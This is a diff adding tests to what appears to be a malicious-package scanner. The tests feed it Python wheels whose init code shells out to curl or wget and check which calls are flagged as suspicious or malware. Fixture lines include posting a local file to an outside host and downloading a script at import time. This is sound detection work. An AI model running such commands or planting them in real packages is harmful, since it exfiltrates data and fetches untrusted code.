@@ -277,3 +277,33 @@ test('a table of jobs that is listed is not changed', async () => {
   ])
     expect(await of(command), command).toMatchObject([{ class: 'malware', score: 4 }]);
 });
+
+test('a file of data that a call fetches from a place for files is told, a program or something that is sent along is held', async () => {
+  const of = (command: string): Promise<readonly Finding[]> =>
+    inspect(
+      'shell-payload',
+      wheel({ 'pkg/__init__.py': python('import os', 'def fetch(root):', `    os.system(${command})`) }),
+    );
+
+  for (const command of [
+    "f'wget https://docs.google.com/uc?id=1 -O {root}/counts.h5ad'",
+    "'curl -L https://sets.s3.amazonaws.com/a -o data/a.csv'",
+  ])
+    expect(await of(command), command).toMatchObject([{ class: 'suspicious', score: 3 }]);
+  for (const command of [
+    "'curl -L https://sets.s3.amazonaws.com/a -o a.sh'",
+    "'curl -L https://sets.s3.amazonaws.com/a -o a'",
+    "'curl -L https://203.0.113.8/a -o a.csv'",
+    "'curl -d @notes https://drop.onrender.com/a -o a.csv'",
+    "'curl -X POST https://drop.onrender.com/a -o a.csv'",
+  ])
+    expect(await of(command), command).toMatchObject([{ class: 'malware', score: 5 }]);
+});
+
+test('a file of data that an import fetches from a place for files is still held', async () => {
+  const file = wheel({
+    'pkg/__init__.py': python('import os', "os.system('curl -L https://sets.s3.amazonaws.com/a -o a.csv')"),
+  });
+
+  expect(await inspect('shell-payload', file)).toMatchObject([{ class: 'malware', score: 10 }]);
+});
